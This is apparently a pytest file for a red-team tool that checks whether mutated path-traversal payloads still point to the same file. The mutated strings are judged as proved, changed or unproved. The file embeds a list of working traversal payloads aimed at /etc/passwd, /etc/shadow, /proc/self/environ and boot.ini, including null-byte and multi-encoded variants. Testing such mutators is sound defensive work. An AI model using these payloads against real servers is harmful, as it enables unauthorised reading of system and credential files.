"""Paths are proved the same by resolving them, as their system does."""

from __future__ import annotations

import csv
import gzip
from collections import Counter
from pathlib import Path
from random import Random
from typing import Any

import pytest

from overproof.redteam.mutate.path import MUTATORS
from overproof.redteam.oracle.path import judge

PAYLOADS = [
    "../../../../etc/passwd",
    "../../../../../../../../etc/passwd%00.png",
    "/../../../../../../etc/shadow",
    "/etc/httpd/httpd.conf",
    "/var/log/apache/access.log%00",
    "/usr/local/apache/conf/php.ini",
    "/proc/self/environ",
    "../../../logs/error.log",
    "../install.php",
    "../../../../../../../{FILE}",
    "/..//..//..//..//..//..//boot.ini",
    r"..\..\..\..\boot.ini",
    r"..\\..\\..\\{FILE}",
    r"..\..\..\..\..\..\/etc/passwd%00index.html",
    "C:/xampp/apache/logs/access.log",
    r"C:\inetpub\wwwroot\index.asp",
    "C:/windows/system32/drivers/etc/hosts",
    r"\xampp\phpmyadmin\config.inc.php",
    "..%c0%af..%c0%afboot.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/%c0%2e%c0%2e%c0%5c%c0%2e%c0%2e%c0%5cboot.ini",
    "..%25c1%259c..%25c1%259cboot.ini",
    "..%255c..%255c..%255c{FILE}",
    "%%32%65%%32%65%%32%66%%32%65%%32%65%%32%66etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd;index.html",
    "////%2e%2e%2f%2e%2e%2fboot.ini",
    "..%u2215..%u2215..%u2215etc/passwd",
    "%uff0e%uff0e%u2216%uff0e%uff0e%u2216boot.ini",
    "0x2e0x2e0x5c0x2e0x2e0x5c{FILE}",
    "/0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd",
    "..2f..2f..2f..2f..2f..2fetc2fpasswd",
    "..;/..;/..;/etc/passwd",
    "AAAAAAAA/../../../../../../etc/passwd",
    "../../../../../../etc/passwd\0",
    "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "....//....//....//etc/passwd",
]
PROVED_AT_LEAST = 0.95


def _meanings(pairs: list[tuple[str, str]]) -> Counter[str]:
    return Counter(proof.meaning for proof in judge(pairs))


def test_chains_of_edits_are_proved_and_never_change_the_file(chains: Any) -> None:
    meanings = _meanings(chains(PAYLOADS * 15, MUTATORS, 6, Random(14)))
    assert meanings["changed"] == 0
    assert meanings["proved"] >= PROVED_AT_LEAST * meanings.total() > 400


def test_chains_of_edits_of_real_payloads(chains: Any, shared_data: Path) -> None:
    with gzip.open(shared_data / "http" / "train.csv.gz", "rt", encoding="utf-8", newline="") as rows:
        payloads = [row["text"] for row in csv.DictReader(rows) if row["family"] == "path-traversal"]
    meanings = _meanings(chains(Random(3).sample(payloads, 300), MUTATORS, 4, Random(14)))
    assert meanings["changed"] == 0
    assert meanings["proved"] >= PROVED_AT_LEAST * meanings.total() > 200


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("../../../../etc/passwd", "../../../../etc/hostname"),
        ("../../../../etc/passwd", "etc/passwd"),
        ("../../../../etc/passwd", "/garden/etc/passwd"),
        ("../../../../etc/passwd", "../../../../etc/passwd/."),
        ("../../../../etc/passwd", "../../../../etc/PASSWD"),
        ("../../../../etc/passwd", "..%252f..%252f..%252f..%252fetc/passwd"),
        ("/etc/passwd", "etc/passwd"),
        (r"..\..\..\..\..\boot.ini", r"..\..\..\..\..\garden\boot.ini"),
        (r"..\..\boot.ini", r"..\..\boot.ini.txt"),
        ("C:/boot.ini", "D:/boot.ini"),
        ("../../../../etc/passwd%00.png", "../../../../etc/passwd.png"),
        ("..%c0%afboot.ini", "..%c0%aeboot.ini"),
        ("....//....//....//....//etc/passwd", "..././..././..././..././/etc/passwd"[:-1]),
    ],
)
def test_another_file_is_seen(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "changed"


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("../../../../etc/passwd", "../../../../garden/../etc/passwd"),  # the kernel asks for the garden
        ("/etc/passwd", "/bin/../etc/passwd"),  # a link on many systems
        ("../../../../../../etc/passwd", "../../../etc/passwd"),  # from some directories the same
        ("garden/flower.html", "garden//flower.html"),  # no attack
        ("", "/"),
    ],
)
def test_what_depends_on_the_server_is_unproved(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "unproved"


@pytest.mark.parametrize(
    ("original", "edited"),
    [
        ("../../../../../etc/passwd", "../../../../../../etc/passwd"),
        ("/etc/passwd", "/var/log/../../etc/./passwd"),
        ("/opt/site/config", "/opt/site/../site/config"),
        ("../../../../../boot.ini", r"..\../..\..\..\garden\..\BOOT.ini"),
        ("..%2f..%2f..%2f..%2f..%2fetc/passwd", "..%2F..%2f..%2f..%2f..%2f%65tc/passwd"),
        ("..%252f..%252fetc/passwd", "..%252f..%252fetc/%2570asswd"),
        ("../../../../../etc/passwd%00", "../../../../../etc/passwd%00garden.html"),
    ],
)
def test_the_same_file_is_proved(original: str, edited: str) -> None:
    assert judge([(original, edited)])[0].meaning == "proved"
